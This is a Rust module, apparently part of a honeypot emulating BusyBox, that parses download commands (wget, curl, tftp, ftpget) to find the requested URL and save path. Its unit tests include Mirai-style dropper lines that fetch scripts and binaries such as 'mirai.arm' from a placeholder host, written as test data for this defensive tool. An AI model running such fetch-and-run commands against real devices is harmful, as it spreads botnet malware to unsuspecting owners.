//! What `wget`, `curl`, `tftp` and `ftpget` are asked to fetch, read from their arguments
//! as BusyBox (and curl) read them. Used twice: before a line runs, to let the operator's
//! fetcher get the file, and when the applet runs, for its event and its answer.

use crate::url::Url;

use super::fs;

/// One download a command asked for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// `wget`, `curl`, `tftp` or `ftpget`.
    pub tool: &'static str,
    /// What it asked for.
    pub url: Url,
    /// Where the file would be saved (absolute), or `None` when it goes to stdout.
    pub dest: Option<Vec<u8>>,
}

/// The download in a command's words (`words[0]` is the tool), if it asks for one.
pub fn request(words: &[Vec<u8>], cwd: &[u8]) -> Option<Request> {
    let (tool, args) = words.split_first()?;
    match fs::file_name(tool) {
        b"busybox" => request(args, cwd),
        b"wget" => wget(args, cwd),
        b"curl" => curl(args, cwd),
        b"tftp" => tftp(args, cwd),
        b"ftpget" => ftpget(args, cwd),
        _ => None,
    }
}

/// The file name a URL's path saves to: its last component, or `index.html`.
fn saved_name(url: &Url) -> Vec<u8> {
    let name = fs::file_name(url.path.as_bytes());
    if name.is_empty() {
        b"index.html".to_vec()
    } else {
        name.to_vec()
    }
}

fn dest(cwd: &[u8], name: &[u8]) -> Option<Vec<u8>> {
    (name != b"-").then(|| fs::resolve(cwd, name))
}

/// `wget [-q] [-O FILE] [-P DIR] [-c] [-T SEC] URL`.
fn wget(args: &[Vec<u8>], cwd: &[u8]) -> Option<Request> {
    let (mut out, mut dir, mut url) = (None, None, None);
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_slice() {
            b"-O" => out = it.next().cloned(),
            b"-P" => dir = it.next().cloned(),
            b"-T" | b"-U" | b"--header" | b"-Y" | b"-o" => {
                it.next();
            }
            o if o.starts_with(b"-O") && o.len() > 2 => out = Some(o[2..].to_vec()),
            o if o.starts_with(b"-") && o.len() > 1 => {}
            u if url.is_none() => url = Url::parse(u),
            _ => {}
        }
    }
    let url = url?;
    let base = dir.map_or_else(|| cwd.to_vec(), |d| fs::resolve(cwd, &d));
    let dest = match out {
        Some(o) => dest(&base, &o),
        None => Some(fs::resolve(&base, &saved_name(&url))),
    };
    Some(Request {
        tool: "wget",
        url,
        dest,
    })
}

/// `curl [-s] [-o FILE | -O] [-L] [-k] URL`: without `-o`/`-O` the file goes to stdout.
fn curl(args: &[Vec<u8>], cwd: &[u8]) -> Option<Request> {
    let (mut out, mut remote_name, mut url) = (None, false, None);
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_slice() {
            b"-o" | b"--output" => out = it.next().cloned(),
            b"-O" | b"--remote-name" => remote_name = true,
            b"-A" | b"-H" | b"-m" | b"-e" | b"-u" | b"-x" | b"--connect-timeout" => {
                it.next();
            }
            o if o.starts_with(b"-") && o.len() > 1 => {
                // Bundled short flags such as -sO or -sLo.
                if o[1] != b'-' && o.contains(&b'O') {
                    remote_name = true;
                }
                if o[1] != b'-' && o.ends_with(b"o") {
                    out = it.next().cloned();
                }
            }
            u if url.is_none() => url = Url::parse(u),
            _ => {}
        }
    }
    let url = url?;
    let dest = match (out, remote_name) {
        (Some(o), _) => dest(cwd, &o),
        (None, true) => Some(fs::resolve(cwd, &saved_name(&url))),
        (None, false) => None,
    };
    Some(Request {
        tool: "curl",
        url,
        dest,
    })
}

/// BusyBox `tftp [-g|-p] [-l LOCAL] [-r REMOTE] [-b SIZE] HOST [PORT]`, and the
/// `tftp HOST -c get FILE` form of other tftp clients that bots send anyway.
fn tftp(args: &[Vec<u8>], cwd: &[u8]) -> Option<Request> {
    let (mut local, mut remote, mut host, mut port) = (None, None, None, None);
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_slice() {
            b"-l" => local = it.next().cloned(),
            b"-r" => remote = it.next().cloned(),
            b"-b" => {
                it.next();
            }
            // `-c get FILE [LOCAL]`.
            b"-c" if it.next().map(Vec::as_slice) == Some(b"get") => remote = it.next().cloned(),
            b"-gr" => remote = it.next().cloned(),
            o if o.starts_with(b"-") => {}
            h if host.is_none() => host = Some(h.to_vec()),
            p if port.is_none() => port = std::str::from_utf8(p).ok()?.parse().ok(),
            _ => {}
        }
    }
    let host = String::from_utf8(host?).ok()?;
    let remote = remote.or_else(|| local.clone())?;
    let url = Url::tftp(&host, port, &String::from_utf8_lossy(&remote))?;
    let local = local.unwrap_or_else(|| fs::file_name(&remote).to_vec());
    Some(Request {
        tool: "tftp",
        url,
        dest: dest(cwd, &local),
    })
}

/// `ftpget [-u USER] [-p PASS] [-P PORT] HOST LOCAL [REMOTE]`.
fn ftpget(args: &[Vec<u8>], cwd: &[u8]) -> Option<Request> {
    let (mut user, mut pass, mut port) = (None, None, None::<u16>);
    let mut rest = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_slice() {
            b"-u" => user = it.next().cloned(),
            b"-p" => pass = it.next().cloned(),
            b"-P" => {
                port = it
                    .next()
                    .and_then(|p| std::str::from_utf8(p).ok()?.parse().ok())
            }
            o if o.starts_with(b"-") && o.len() > 1 => {}
            w => rest.push(w.to_vec()),
        }
    }
    let host = String::from_utf8(rest.first()?.clone()).ok()?;
    let local = rest.get(1)?.clone();
    let remote = rest.get(2).cloned().unwrap_or_else(|| local.clone());
    let mut text = String::from("ftp://");
    if let Some(u) = &user {
        text.push_str(&String::from_utf8_lossy(u));
        if let Some(p) = &pass {
            text.push(':');
            text.push_str(&String::from_utf8_lossy(p));
        }
        text.push('@');
    }
    text.push_str(&host);
    if let Some(p) = port {
        text.push_str(&format!(":{p}"));
    }
    if !remote.starts_with(b"/") {
        text.push('/');
    }
    text.push_str(&String::from_utf8_lossy(&remote));
    Some(Request {
        tool: "ftpget",
        url: Url::parse(text.as_bytes())?,
        dest: dest(cwd, &local),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(line: &str) -> Option<(String, String, Option<String>)> {
        let words: Vec<Vec<u8>> = line.split(' ').map(|w| w.as_bytes().to_vec()).collect();
        request(&words, b"/tmp").map(|r| {
            (
                r.tool.to_string(),
                r.url.to_string(),
                r.dest.map(|d| String::from_utf8(d).unwrap()),
            )
        })
    }

    #[test]
    fn reads_what_bots_send() {
        assert_eq!(
            req("wget http://1.2.3.4/bins.sh"),
            Some((
                "wget".into(),
                "http://1.2.3.4/bins.sh".into(),
                Some("/tmp/bins.sh".into())
            ))
        );
        assert_eq!(
            req("/bin/busybox wget http://1.2.3.4:81/bins/mirai.arm -O -").map(|r| r.2),
            Some(None)
        );
        assert_eq!(
            req("tftp -g -l dvrHelper -r mirai.arm 1.2.3.4"),
            Some((
                "tftp".into(),
                "tftp://1.2.3.4/mirai.arm".into(),
                Some("/tmp/dvrHelper".into())
            ))
        );
        assert_eq!(
            req("tftp 1.2.3.4 -c get tftp1.sh"),
            Some((
                "tftp".into(),
                "tftp://1.2.3.4/tftp1.sh".into(),
                Some("/tmp/tftp1.sh".into())
            ))
        );
        assert_eq!(
            req("tftp -r tftp2.sh -g 1.2.3.4").map(|r| r.1),
            Some("tftp://1.2.3.4/tftp2.sh".into())
        );
        assert_eq!(
            req("curl -O http://h.example/x.sh"),
            Some((
                "curl".into(),
                "http://h.example/x.sh".into(),
                Some("/tmp/x.sh".into())
            ))
        );
        assert_eq!(req("curl http://h.example/x.sh").map(|r| r.2), Some(None));
        assert_eq!(
            req("ftpget -u anonymous -p x 1.2.3.4 f.sh f.sh").map(|r| r.1),
            Some("ftp://1.2.3.4/f.sh".into()),
            "credentials stay out of the text"
        );
        assert_eq!(req("wget"), None);
        assert_eq!(req("tftp"), None);
        assert_eq!(req("ls http://x/"), None);
    }
}
